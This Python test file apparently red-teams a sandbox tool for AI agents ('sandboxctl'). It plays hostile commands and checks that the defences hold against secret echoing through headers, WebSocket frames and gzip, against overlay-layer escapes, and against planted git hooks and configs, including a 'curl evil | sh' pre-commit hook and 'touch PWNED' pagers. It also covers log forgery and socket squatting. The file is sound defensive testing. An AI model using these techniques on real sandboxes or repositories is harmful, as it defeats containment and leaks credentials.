"""Red-team attacks on this turn's walls — overlay workspaces and apply/undo, phantom secrets,
the action log, sessions — each played by a hostile command and judged from outside the
sandbox: the host's own files, the host's git, the upstream server's record, the host's copy of
the log. A test marked xfail(strict) proves a hole that is still open (its reason says which)."""

from __future__ import annotations

import base64
import gzip
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from tests.integration.test_inspection import REAL
from tests.tlsfixtures import RecordingServer, UpstreamCA, _Recorder
from tests.unit.workspace_helpers import make_layer, opaque, snapshot, whiteout, write


def _cli(sandbox, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "sandboxctl", *args], cwd=sandbox.workspace,
                          env=sandbox.env(), capture_output=True, text=True, timeout=60)


# ====================================================================== phantom secrets
class _EchoingRecorder(_Recorder):
    """A server that, like many WebSocket servers, accepts whatever sub-protocol it is offered and
    names it in its 101 answer."""

    def _answer(self) -> None:
        if self.path == "/gzip":  # an echo that compresses when the client accepts it (as most servers do)
            self.server.seen.append({"path": self.path, "headers": [[k, v] for k, v in self.headers.items()]})
            body = json.dumps(dict(self.headers.items())).encode()
            gzipped = "gzip" in self.headers.get("Accept-Encoding", "")
            body = gzip.compress(body) if gzipped else body
            self.send_response(200)
            if gzipped:
                self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return None
        if self.path == "/trailer":  # the request's Authorization echoed in a trailer of a chunked answer
            self.server.seen.append({"path": self.path, "headers": [[k, v] for k, v in self.headers.items()]})
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.send_header("Trailer", "X-Echo")
            self.end_headers()
            self.wfile.write(b"2\r\nok\r\n0\r\nX-Echo: " + self.headers.get("Authorization", "").encode()
                             + b"\r\n\r\n")
            return None
        if self.headers.get("Upgrade", "").lower() != "websocket":
            return super()._answer()
        self.server.seen.append({"path": self.path, "headers": [[k, v] for k, v in self.headers.items()]})
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Protocol", self.headers.get("Sec-WebSocket-Protocol", ""))
        if self.path == "/ws-deflate":  # negotiates compression whether or not it was offered
            self.send_header("Sec-WebSocket-Extensions", "permessage-deflate")
        self.end_headers()
        if self.path == "/ws-echo":  # echoes the Authorization it got, the value split over two fragments
            echoed = self.headers.get("Authorization", "").encode()
            cut = len(echoed) // 2
            self.wfile.write(bytes((0x01, cut)) + echoed[:cut] + bytes((0x89, 2)) + b"hi"
                             + bytes((0x80, len(echoed) - cut)) + echoed[cut:] + bytes((0x88, 2)) + b"\x03\xe8")
        self.wfile.flush()
        self.close_connection = True
        return None

    do_GET = do_POST = _answer


@pytest.fixture(scope="module")
def upstream_ca(tmp_path_factory: pytest.TempPathFactory) -> UpstreamCA:
    return UpstreamCA(tmp_path_factory.mktemp("rt-ca"))


@pytest.fixture
def echo(upstream_ca: UpstreamCA):
    server = RecordingServer(upstream_ca.server_context())
    server.RequestHandlerClass = _EchoingRecorder
    yield server
    server.close()


def _phantom_policy(sandbox, upstream_ca: UpstreamCA, server: RecordingServer) -> str:
    return str(sandbox.write_policy("rt-inspect.yaml", f"""version: 1
extends: default
network:
  mode: proxy
  allow: ["localhost:{server.port}"]
  allow_private: true
  upstream_ca: ["{upstream_ca.ca_file}"]
  inspect:
    localhost:{server.port}:
      allow: ["* /**"]
secrets:
  TOKEN:
    from: env:REAL_TOKEN
    as: proxy
    hosts: ["localhost:{server.port}"]
approval:
  mode: deny
"""))


def _learned(output: str) -> bool:
    """Did the command's output carry the real value, as is or in any base64 a server echoed?"""
    if REAL in output:
        return True
    for word in output.replace('"', " ").replace(",", " ").split():
        for candidate in (word, word + "=", word + "=="):
            try:
                if REAL.encode() in base64.b64decode(candidate, validate=True):
                    return True
            except ValueError:
                continue
    return False


def test_an_echoed_basic_credential_does_not_hand_back_the_value(sandbox, upstream_ca, echo):
    """The placeholder inside `Authorization: Basic` is replaced (git's way of sending a token); a
    host that echoes the request's headers then returns base64(user:REAL), which the masking of
    the raw value cannot see: the command decodes it."""
    policy = _phantom_policy(sandbox, upstream_ca, echo)
    code = f"""
import base64, os, urllib.request as u
basic = base64.b64encode(b"x:" + os.environ["TOKEN"].encode()).decode()
r = u.urlopen(u.Request("https://localhost:{echo.port}/echo", headers={{"Authorization": "Basic " + basic}}))
print(r.read().decode())
"""
    result = sandbox.run("--", "python3", "-c", code, policy=policy, env={"REAL_TOKEN": REAL})
    assert result.returncode == 0, result.stderr
    sent = echo.headers_of()["authorization"]
    assert base64.b64decode(sent.split()[1]) == f"x:{REAL}".encode()  # the upstream got the real value
    assert not _learned(result.stdout), "the command learned the real value from the echo"


def test_a_101_answer_naming_the_sub_protocol_does_not_hand_back_the_value(sandbox, upstream_ca, echo):
    """Any request header gets the real value, Sec-WebSocket-Protocol too; a WebSocket server names
    the sub-protocol it accepted in its 101 answer. The 101's headers must be masked like any
    other answer's."""
    policy = _phantom_policy(sandbox, upstream_ca, echo)
    code = f"""
import os, socket, ssl
sock = socket.create_connection(("127.0.0.1", 3128))
sock.sendall(b"CONNECT localhost:{echo.port} HTTP/1.1\\r\\nHost: localhost:{echo.port}\\r\\n\\r\\n")
assert sock.recv(1000).startswith(b"HTTP/1.1 200")
tls = ssl.create_default_context().wrap_socket(sock, server_hostname="localhost")
tls.sendall(b"GET /ws HTTP/1.1\\r\\nHost: localhost:{echo.port}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
            b"Sec-WebSocket-Protocol: " + os.environ["TOKEN"].encode() + b"\\r\\n\\r\\n")
head = b""
while b"\\r\\n\\r\\n" not in head:
    chunk = tls.recv(1)
    if not chunk:
        break
    head += chunk
print(head.decode("latin-1"))
"""
    result = sandbox.run("--", "python3", "-c", code, policy=policy, env={"REAL_TOKEN": REAL})
    assert result.returncode == 0, result.stderr
    assert "101" in result.stdout.split("\n")[0], result.stdout + result.stderr
    assert echo.headers_of()["sec-websocket-protocol"] == REAL  # the upstream got the real value
    assert not _learned(result.stdout), "the 101 answer handed the real value back"


TUNNEL_OPEN = """
import os, socket, ssl
sock = socket.create_connection(("127.0.0.1", 3128))
sock.sendall(b"CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n")
assert sock.recv(1000).startswith(b"HTTP/1.1 200")
tls = ssl.create_default_context().wrap_socket(sock, server_hostname="localhost")
"""  # a CONNECT tunnel to the echo server, TLS inside (the run's CA)

WS_CLIENT = TUNNEL_OPEN + """
tls.sendall(b"GET {path} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
            b"Sec-WebSocket-Extensions: permessage-deflate\\r\\n"
            b"Authorization: Bearer " + os.environ["TOKEN"].encode() + b"\\r\\n\\r\\n")
data = b""
try:
    while chunk := tls.recv(65536):
        data += chunk
except (ConnectionResetError, ssl.SSLError) as exc:
    print("reset:", type(exc).__name__)
head, _, frames = data.partition(b"\\r\\n\\r\\n")
print(head.split(b"\\r\\n")[0].decode("latin-1"))
message, pos = b"", 0
while pos + 2 <= len(frames):  # the client's view: a text message assembled from its fragments
    first, n = frames[pos], frames[pos + 1] & 0x7F
    payload, pos = frames[pos + 2:pos + 2 + n], pos + 2 + n
    if first & 0x0F in (0, 1):
        message += payload
        if first & 0x80:
            print("message:", message.decode("latin-1"))
"""


def test_a_websocket_server_echoing_the_value_in_its_frames_does_not_hand_it_back(sandbox, upstream_ca, echo):
    """After a 101 the connection is a WebSocket; a server that got the real value may echo it in a
    message, here split over two fragments with a ping in between. The client must assemble the
    message with the value masked (and the proxy must not have offered compression upstream)."""
    policy = _phantom_policy(sandbox, upstream_ca, echo)
    result = sandbox.run("--", "python3", "-c", WS_CLIENT.format(port=echo.port, path="/ws-echo"), policy=policy,
                         env={"REAL_TOKEN": REAL})
    assert result.returncode == 0, result.stderr
    assert "101" in result.stdout.split("\n")[0], result.stdout + result.stderr
    assert echo.headers_of()["authorization"] == f"Bearer {REAL}"  # the upstream got the real value
    assert "sec-websocket-extensions" not in echo.headers_of()  # no compression that would hide it
    assert f"message: Bearer {'*' * len(REAL)}" in result.stdout, result.stdout
    assert not _learned(result.stdout), "the WebSocket frames handed the real value back"


def test_a_websocket_extension_the_proxy_did_not_offer_ends_the_connection(sandbox, upstream_ca, echo):
    """permessage-deflate would hide the value from the masking: a server that answers with an
    extension anyway gets no relay, and the client no frame."""
    policy = _phantom_policy(sandbox, upstream_ca, echo)
    result = sandbox.run("--", "python3", "-c", WS_CLIENT.format(port=echo.port, path="/ws-deflate"), policy=policy,
                         env={"REAL_TOKEN": REAL})
    assert result.returncode == 0, result.stderr
    assert "101" not in result.stdout and "message:" not in result.stdout, result.stdout
    assert not _learned(result.stdout)


RAW_TUNNEL = TUNNEL_OPEN + """
tls.sendall(b"GET /trailer HTTP/1.1\\r\\nHost: localhost:{port}\\r\\nConnection: close\\r\\n"
            b"Authorization: Bearer " + os.environ["TOKEN"].encode() + b"\\r\\n\\r\\n")
data = b""
while chunk := tls.recv(65536):
    data += chunk
print(data.decode("latin-1"))
"""


def test_a_trailer_of_the_answer_does_not_hand_back_the_value(sandbox, upstream_ca, echo):
    """A chunked answer's trailer fields are passed on to the client: they are masked like headers."""
    policy = _phantom_policy(sandbox, upstream_ca, echo)
    result = sandbox.run("--", "python3", "-c", RAW_TUNNEL.format(port=echo.port), policy=policy,
                         env={"REAL_TOKEN": REAL})
    assert result.returncode == 0, result.stderr
    assert echo.headers_of()["authorization"] == f"Bearer {REAL}"
    assert "x-echo" in result.stdout.lower(), result.stdout  # the trailer itself did come through
    assert not _learned(result.stdout), "a trailer handed the real value back"


def test_a_compressed_echo_does_not_hand_back_the_value(sandbox, upstream_ca, echo):
    """The command asks for gzip; an echo of its headers then comes back compressed, where the
    masking cannot see the value: the command decompresses it."""
    policy = _phantom_policy(sandbox, upstream_ca, echo)
    code = f"""
import gzip, os, urllib.request as u
asked = {{"Authorization": "Bearer " + os.environ["TOKEN"], "Accept-Encoding": "gzip"}}
r = u.urlopen(u.Request("https://localhost:{echo.port}/gzip", headers=asked))
body = r.read()
print(gzip.decompress(body).decode() if r.headers.get("Content-Encoding") == "gzip" else body.decode())
"""
    result = sandbox.run("--", "python3", "-c", code, policy=policy, env={"REAL_TOKEN": REAL})
    assert result.returncode == 0, result.stderr
    assert echo.headers_of()["authorization"] == f"Bearer {REAL}"
    assert not _learned(result.stdout), "a compressed echo handed the real value back"


def test_the_placeholder_in_the_url_or_body_of_its_own_host_stays_a_placeholder(sandbox, upstream_ca, echo):
    """Only headers get the value: a URL or a body toward the secret's own host carries the
    placeholder (the server's own record), and the echo holds nothing real."""
    policy = _phantom_policy(sandbox, upstream_ca, echo)
    script = (f'curl -sS "https://localhost:{echo.port}/q?t=$TOKEN"; echo; '
              f'curl -sS -d "t=$TOKEN" "https://localhost:{echo.port}/b"; echo; '
              f'curl -sS -H "Transfer-Encoding: chunked" -d "t=$TOKEN" "https://localhost:{echo.port}/c"')
    result = sandbox.run("--", "/bin/sh", "-c", script, policy=policy, env={"REAL_TOKEN": REAL})
    assert result.returncode == 0, result.stderr
    assert len(echo.seen) == 3 and REAL not in json.dumps(echo.seen)
    assert not _learned(result.stdout)


# ====================================================================== overlay workspaces
EXOTIC_LAYER = r"""
import os, socket, stat
def tried(what, call):
    try:
        call()
        print(what, "made")
    except OSError as exc:
        print(what, "refused", exc.errno)
# overlayfs' own xattrs set through the overlay (they are escaped into user.overlay.overlay.*)
tried("opaque", lambda: os.setxattr("keep", "user.overlay.opaque", b"y"))
tried("whiteout", lambda: os.setxattr("victim", "user.overlay.whiteout", b""))
open("empty", "w").close()
tried("whiteout-empty", lambda: os.setxattr("empty", "user.overlay.whiteout", b""))
tried("metacopy", lambda: os.setxattr("meta", "user.overlay.metacopy", b""))
tried("redirect", lambda: os.setxattr("keep", "user.overlay.redirect", b"/outside"))
tried("device", lambda: os.mknod("dev", stat.S_IFCHR | 0o666, os.makedev(1, 3)))
tried("whiteout-node", lambda: os.mknod("wh", stat.S_IFCHR | 0o666, 0))
tried("fifo", lambda: os.mkfifo("fifo"))
tried("socket", lambda: socket.socket(socket.AF_UNIX).bind("sock"))
tried("setuid", lambda: os.chmod("tool", 0o6755))
tried("escape-link", lambda: os.symlink(OUTSIDE, "esc"))
# the host's symlink to a directory outside becomes a real directory holding a file
os.remove("linkd"); os.mkdir("linkd"); open("linkd/planted", "w").write("p\n")
tried("newline-name", lambda: open("nl\n{\"event\": \"x\"}\x1b[2J", "w").write("x\n"))
tried("hardlink", lambda: os.link("d/f", "hard"))
open("d/f", "a").write("more\n")
"""


def test_an_exotic_layer_applies_only_inside_the_workspace_and_undo_puts_back_exactly(sandbox, tmp_path):
    """Every odd thing a layer can hold, made by the command: overlayfs' own xattrs, devices,
    fifos, sockets, setuid bits, a link out, a host symlink to a directory outside replaced by a
    real directory. apply writes only inside the workspace (the outside directory and a canary
    untouched), never a special file or a setuid bit, and undo gives back the exact start."""
    ws = sandbox.workspace
    outside = tmp_path / "outside"
    outside.mkdir()
    canary = write(outside / "canary", "canary\n")
    os.chmod(outside, 0o777)
    write(ws / "keep/a", "a\n")
    write(ws / "keep/b", "b\n")
    write(ws / "victim", "v\n")
    write(ws / "meta", "m\n")
    write(ws / "tool", "#!/bin/sh\n", 0o755)
    write(ws / "d/f", "f\n")
    os.symlink(outside, ws / "linkd")
    start = snapshot(ws)
    outside_start = snapshot(outside)
    result = sandbox.run("--overlay", "--", "python3", "-c", f"OUTSIDE = {str(outside)!r}\n" + EXOTIC_LAYER)
    assert result.returncode == 0, result.stderr
    said = {line.split()[0]: line.split()[1] for line in result.stdout.splitlines()}
    assert said["device"] == "refused" and said["whiteout-node"] == "refused"
    assert snapshot(ws) == start  # nothing landed yet

    shown = _cli(sandbox, "changes")
    assert shown.returncode == 0 and "\x1b" not in shown.stdout
    assert all(not line or line.startswith(("run ", "  ")) or line.endswith("changes")
               for line in shown.stdout.splitlines()), shown.stdout  # a newline in a name makes no line
    applied = _cli(sandbox, "apply")
    assert applied.returncode == 1, applied.stderr  # fifos, sockets and set-id bits held back, and listed
    assert "\x1b" not in applied.stdout + applied.stderr
    after = snapshot(ws)
    assert snapshot(outside) == outside_start and canary.read_text() == "canary\n"
    assert (ws / "keep/a").read_text() == "a\n" and (ws / "keep/b").read_text() == "b\n"  # no opaque dir
    assert (ws / "victim").read_text() == "v\n" and (ws / "meta").read_text() == "m\n"   # no whiteout
    assert (ws / "empty").is_file() and os.stat(ws / "empty").st_size == 0
    assert os.stat(ws / "tool").st_mode & 0o6000 == 0
    assert not (ws / "linkd").is_symlink() and (ws / "linkd/planted").read_text() == "p\n"
    assert os.readlink(ws / "esc") == str(outside)
    assert not any(p in after for p in ("fifo", "sock", "dev", "wh"))
    assert (ws / 'nl\n{"event": "x"}\x1b[2J').read_text() == "x\n"  # the name as it is, one file
    assert (ws / "hard").read_text() == (ws / "d/f").read_text() == "f\nmore\n"
    assert os.stat(ws / "hard").st_ino != os.stat(ws / "d/f").st_ino  # two files, as the README says

    undone = _cli(sandbox, "undo")
    assert undone.returncode == 0, undone.stderr
    assert snapshot(ws) == start and snapshot(outside) == outside_start


PREFIX_LINK = ("import os\nos.makedirs('cfg/git')\n"
               "open('cfg/git/config', 'w').write('[core]\\n\\tpager = touch PWNED\\n')\n"
               "try:\n    os.symlink('cfg', '.config')\nexcept OSError as exc:\n    print('refused', exc.errno)\n")


def _host_git_pager(ws: Path) -> str:
    """core.pager as the host's own git reads it, with this workspace as its home."""
    return subprocess.run(["git", "-C", str(ws / "proj"), "config", "--get", "core.pager"], capture_output=True,
                          text=True, env={"HOME": str(ws), "PATH": os.environ["PATH"]}).stdout


@pytest.mark.parametrize("mode", ["rw", "overlay"])
def test_a_symlink_at_a_protected_names_parent_cannot_plant_the_name(sandbox, mode):
    """`.config/git` is protected at the root of every writable grant, and a directory renamed to
    `.config` is refused; a *symlink* `.config -> cfg`, with cfg/git/config beside it, brings the
    same name in. Where the workspace is a home, the host's git then runs what it says."""
    ws = sandbox.workspace
    subprocess.run(["git", "init", "-q", str(ws / "proj")], check=True)
    result = sandbox.run(*(["--overlay"] if mode == "overlay" else []), "--", "python3", "-c", PREFIX_LINK)
    assert result.returncode == 0, result.stderr
    if mode == "overlay":
        _cli(sandbox, "apply")
    assert "PWNED" not in _host_git_pager(ws), "a symlink at .config planted .config/git/config"


def test_apply_holds_back_a_layers_symlink_at_a_protected_names_parent(sandbox):
    """apply's own wall (for a layer that holds one anyway): a symlink at `.config` is protected."""
    ws = sandbox.workspace
    subprocess.run(["git", "init", "-q", str(ws / "proj")], check=True)
    assert sandbox.run("--overlay", "--", "true").returncode == 0
    (layer,) = (sandbox.state / "sandboxctl" / "workspaces").glob("*")
    meta = json.loads((layer / "meta.json").read_text())
    write(layer / "upper/cfg/git/config", "[core]\n\tpager = touch PWNED\n")
    os.symlink("cfg", layer / "upper/.config")
    manifest = json.loads((layer / "manifest.json").read_text())
    manifest["entries"] = {}  # re-seal it as the run's own, so that only the protected check stands
    (layer / "manifest.json").write_text(json.dumps(manifest))
    meta.pop("sealed", None)
    (layer / "meta.json").write_text(json.dumps(meta))
    applied = _cli(sandbox, "apply")
    assert "PWNED" not in _host_git_pager(ws), applied.stdout + applied.stderr
    assert ".config" in applied.stdout + applied.stderr
    assert applied.returncode == 1  # something was held back: a pipeline must be able to tell


def test_a_hand_made_layer_plants_no_protected_path_without_include_protected(tmp_path):
    """apply's own wall, for a layer that holds protected paths anyway (the supervisor refuses
    them during the run): a hook, git config, a git directory turned into a `gitdir:` file, a new
    nested repository, the hooks deleted by a whiteout or hidden by an opaque directory, .envrc,
    editor and agent settings, and .config reached through a link. None lands on the host."""
    from sandboxctl.workspace import seal
    from sandboxctl.workspace.apply import apply

    ws = tmp_path / "ws"
    write(ws / ".git/hooks/pre-push", "#!/bin/sh\n", 0o755)
    write(ws / ".git/config", "[core]\n")
    write(ws / "lib/.git/hooks/post-checkout", "#!/bin/sh\n", 0o755)
    write(ws / "src/a.py", "a\n")
    layer = make_layer(tmp_path / "state", ws)
    upper = layer.upper
    write(upper / ".git/hooks/pre-commit", "curl evil | sh\n", 0o755)
    write(upper / ".git/config", "[core]\n\tfsmonitor = touch PWNED\n")
    write(upper / "lib/.git", "gitdir: ../evil\n")  # a git directory replaced by a pointer elsewhere
    write(upper / "vendor/.git/config", "[core]\n\tfsmonitor = touch PWNED\n")
    write(upper / "vendor/.git/HEAD", "ref: refs/heads/main\n")
    write(upper / ".envrc", "touch PWNED\n")
    write(upper / ".vscode/tasks.json", "{}\n")
    write(upper / ".claude/settings.json", "{}\n")
    write(upper / ".mcp.json", "{}\n")
    write(upper / "cfg/git/config", "[core]\n\tpager = touch PWNED\n")
    os.symlink("cfg", upper / ".config")
    write(upper / "src/b.py", "b\n")
    seal.seal(layer)
    start = snapshot(ws)
    outcome = apply(layer)
    assert (ws / "src/b.py").read_text() == "b\n"  # the ordinary change landed
    after = snapshot(ws)
    landed = {path for path in after if after[path] != start.get(path)} - {"src/b.py", "vendor", "cfg", "cfg/git",
                                                                             "cfg/git/config"}
    assert landed == set(), f"protected paths applied: {sorted(landed)}"
    assert {".git/hooks/pre-commit", ".git/config", "lib", ".envrc", ".vscode", ".claude", ".mcp.json",
            ".config"} <= {c.path for c in outcome.protected} | {c.path.split("/")[0] for c in outcome.protected}


def test_hooks_deleted_or_hidden_in_a_hand_made_layer_stay(tmp_path):
    """A whiteout over .git/hooks and an opaque .git both delete protected paths: held back."""
    from sandboxctl.workspace import seal
    from sandboxctl.workspace.apply import apply

    ws = tmp_path / "ws"
    write(ws / ".git/hooks/pre-push", "#!/bin/sh\nexit 1\n", 0o755)  # a guard hook the agent wants gone
    write(ws / "sub/.git/hooks/pre-push", "#!/bin/sh\nexit 1\n", 0o755)
    write(ws / "sub/.git/HEAD", "ref: refs/heads/main\n")
    layer = make_layer(tmp_path / "state", ws)
    (layer.upper / ".git").mkdir()
    whiteout(layer.upper / ".git/hooks")
    (layer.upper / "sub").mkdir()
    opaque(layer.upper / "sub/.git")
    seal.seal(layer)
    start = snapshot(ws)
    outcome = apply(layer)
    after = snapshot(ws)
    hooks = [path for path in start if "/hooks" in path]
    assert [after.get(path) for path in hooks] == [start[path] for path in hooks]
    assert {c.path for c in outcome.protected} >= {".git/hooks"}  # (HEAD is git's everyday work: it may go)


def test_a_bare_repository_in_a_hand_made_layer_is_held_back(tmp_path):
    """Names alone cannot see a repository made of ordinary names (HEAD, objects/, refs/): apply
    holds back the parts that would complete one, as the supervisor refuses them during a run."""
    from sandboxctl.workspace import seal
    from sandboxctl.workspace.apply import apply

    ws = tmp_path / "ws"
    write(ws / "src/a.py", "a\n")
    layer = make_layer(tmp_path / "state", ws)
    write(layer.upper / "bare/HEAD", "ref: refs/heads/main\n")
    write(layer.upper / "bare/config", "[core]\n\tpager = touch PWNED\n")
    (layer.upper / "bare/objects").mkdir()
    (layer.upper / "bare/refs").mkdir()
    seal.seal(layer)
    apply(layer)
    (ws / "bare").mkdir(exist_ok=True)
    pager = subprocess.run(["git", "config", "--get", "core.pager"], cwd=ws / "bare", capture_output=True, text=True,
                           env={"HOME": str(tmp_path), "PATH": os.environ["PATH"]}).stdout
    assert "PWNED" not in pager, "the host's git takes the applied directory for a repository"


# ====================================================================== the action log
FORGE = '\n{"ts": "2026-01-01T00:00:00.000000Z", "run": "forged", "seq": 0, "event": "run.end", "prev": "0"}\n\x1b[2J'


def test_names_and_argv_cannot_forge_or_break_log_lines(sandbox):
    """A denied write, an exec and a network destination, each named with a newline and a whole
    forged JSON record: every line of the host's log is still one record of the run, the chain
    verifies, and `sandboxctl log` shows nothing raw."""
    code = f"""
import os, socket, subprocess
forge = {FORGE!r}
try:
    open("/etc/" + forge, "w")
except OSError:
    pass
subprocess.run(["/bin/true", forge])
try:
    socket.create_connection((forge.strip().replace(" ", ""), 80), timeout=2)
except OSError:
    pass
"""
    result = sandbox.run("--", "python3", "-c", code, env={"CI": "true"})
    assert result.returncode == 0, result.stderr
    lines = sandbox.log_path.read_text().splitlines()
    records = [json.loads(line) for line in lines]  # each line one JSON object
    assert {r["run"] for r in records} == {records[0]["run"]} and records[-1]["event"] == "run.end"
    assert [r["seq"] for r in records] == list(range(len(records)))
    assert any(r["event"] == "file" and FORGE in r["path"] for r in records)
    verified = _cli(sandbox, "log", "--verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr
    shown = _cli(sandbox, "log")
    assert "\x1b" not in shown.stdout and "forged" not in [line.split()[0] for line in shown.stdout.splitlines()
                                                            if line.split()]


def test_verify_finds_a_removed_middle_line_and_says_what_a_chain_cannot_see(sandbox):
    """A line removed from the middle breaks the chain; the last lines cut off (a whole run's end)
    leave a chain that is intact as far as it goes, and only `--against` a copy can tell."""
    assert sandbox.run("--", "/bin/sh", "-c", "echo a > a").returncode == 0
    assert sandbox.run("--", "true").returncode == 0
    lines = sandbox.log_path.read_text().splitlines(keepends=True)
    sandbox.log_path.write_text("".join(lines[:2] + lines[3:]))
    broken = _cli(sandbox, "log", "--verify")
    assert broken.returncode != 0 and ":3" in broken.stdout + broken.stderr
    sandbox.log_path.write_text("".join(lines[:-1]))
    cut = _cli(sandbox, "log", "--verify")
    assert cut.returncode == 0  # a hash chain has nothing after its last line to disagree with it


# ====================================================================== sessions
SQUATTER = r"""
import json, os, socket, sys
base, record = sys.argv[1], sys.argv[2]
os.setgid(65534)
os.setuid(65534)  # another user, who made the victim's runtime dir in /tmp before the victim did
sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
sock.bind(os.path.join(base, "sessions", "build.sock"))
sock.listen(1)
print("ready", flush=True)
conn, _ = sock.accept()
data, fds, _, _ = socket.recv_fds(conn, 1 << 20, 8)
if data or fds:
    with open(record, "w") as out:
        json.dump({"message": data.decode(), "fds": len(fds)}, out)
for fd in fds[1:2]:
    os.write(fd, b"the other user's output\n")
conn.send(json.dumps({"started": 1}).encode())
conn.send(json.dumps({"exited": 1, "exit_code": 0, "timed_out": False, "denials": []}).encode())
"""


@pytest.mark.skipif(os.getuid() != 0, reason="a second user's socket needs root to make that user's process")
def test_exec_never_talks_to_another_users_socket_in_a_squatted_runtime_dir(tmp_path, request):
    """Without a runtime dir of one's own, sessions live in /tmp/sandboxctl-UID, a name anybody can
    make first. Another user who did serves build.sock there: `sandboxctl exec build` must not send
    it the command (nor its stdin/stdout/stderr) nor report that user's answer as the command's."""
    tmp = Path(tempfile.mkdtemp(prefix="sandboxctl-rt-"))  # a /tmp of its own, that the other user reaches
    os.chmod(tmp, 0o1777)
    request.addfinalizer(lambda: shutil.rmtree(tmp, ignore_errors=True))
    base = tmp / f"sandboxctl-{os.getuid()}"
    (base / "sessions").mkdir(parents=True)
    for path in (base, base / "sessions"):
        os.chown(path, 65534, 65534)
    record = tmp / "record.json"
    squatter = subprocess.Popen([sys.executable, "-c", SQUATTER, str(base), str(record)], stdout=subprocess.PIPE,
                                text=True)
    try:
        assert squatter.stdout.readline().strip() == "ready"
        env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TMPDIR": str(tmp), "LANG": "C.UTF-8"}
        result = subprocess.run([sys.executable, "-m", "sandboxctl", "exec", "build", "--", "sh", "-c",
                                 "echo deploying"], env=env, capture_output=True, text=True, timeout=30)
        fake = base / "sessions" / "build.json"
        fake.write_text(json.dumps({"name": "build", "run": "fake", "pid": squatter.pid, "policy": "theirs"}))
        os.chown(fake, 65534, 65534)
        listed = subprocess.run([sys.executable, "-m", "sandboxctl", "session", "list", "--json"], env=env,
                                capture_output=True, text=True, timeout=30)
        started = subprocess.run([sys.executable, "-m", "sandboxctl", "session", "start", "--name", "mine"],
                                 env=env, capture_output=True, text=True, timeout=30, cwd=tmp_path)
    finally:
        squatter.kill()
        squatter.wait(10)
    told = json.loads(record.read_text()) if record.exists() else None
    assert told is None, f"another user's process got {told}"
    assert "the other user's output" not in result.stdout
    assert result.returncode == 125 and "another user" in result.stderr, result.stderr
    assert listed.returncode == 0 and listed.stdout == "", listed.stdout  # their entries are not shown as ours
    assert started.returncode == 125 and "another user" in started.stderr, started.stderr
    assert not (base / "sessions" / "mine.sock").exists()


def test_a_flood_of_distinct_denials_cannot_pass_off_the_rest_as_copies_of_one(sandbox):
    """Past 4096 distinct denials the log only counts (the supervisor must stay bounded): the
    command floods it with junk, then makes the denial it wants unseen. Its path may go unwritten,
    but then the record that counts it must not say it was one more copy of some other path."""
    code = """
import os
for i in range(4200):
    try:
        os.mkdir(f"/usr/junk-{i}")
    except OSError:
        pass
try:
    os.mkdir("/usr/the-one-that-matters")
except OSError:
    pass
"""
    result = sandbox.run("--", "python3", "-c", code, env={"CI": "true"}, timeout=120)
    assert result.returncode == 0, result.stderr
    records = sandbox.records()
    denied = [r for r in records if r["event"] == "file" and r.get("decision") == "deny"]
    end = records[-1]
    assert end["event"] == "run.end" and end["denied"] == 4201
    assert sum(r.get("repeated") or 1 for r in denied) == 4201  # every denial is written or counted
    if any(r["path"] == "/usr/the-one-that-matters" for r in denied):
        return
    counted = [r for r in denied if r.get("repeated")]
    assert counted and all(not r["path"].startswith("/usr/junk-") for r in counted), \
        f"counted as copies of {[r['path'] for r in counted]}: {[r.get('note') for r in counted]}"


def test_a_flood_of_denied_opens_does_not_grow_the_log_without_bound(sandbox):
    """The log rotates by size and keeps five files: a command that can write records at will can
    push every earlier record — its own, and other runs' — out of the log. A denied open writes an
    `approval` record (mode: deny) besides its `file` record; identical ones must be counted past
    the first few, as the file records are, not written one by one."""
    code = """
for i in range(5000):
    try:
        open("/etc/x", "w")
    except OSError:
        pass
"""
    result = sandbox.run("--", "python3", "-c", code, env={"CI": "true"}, timeout=120)
    assert result.returncode == 0, result.stderr
    approvals = [r for r in sandbox.records() if r["event"] == "approval"]
    assert sum(r.get("repeated") or 1 for r in approvals) == 5000  # each one counted
    assert len(approvals) <= 50, f"{len(approvals)} approval records for one denial repeated"
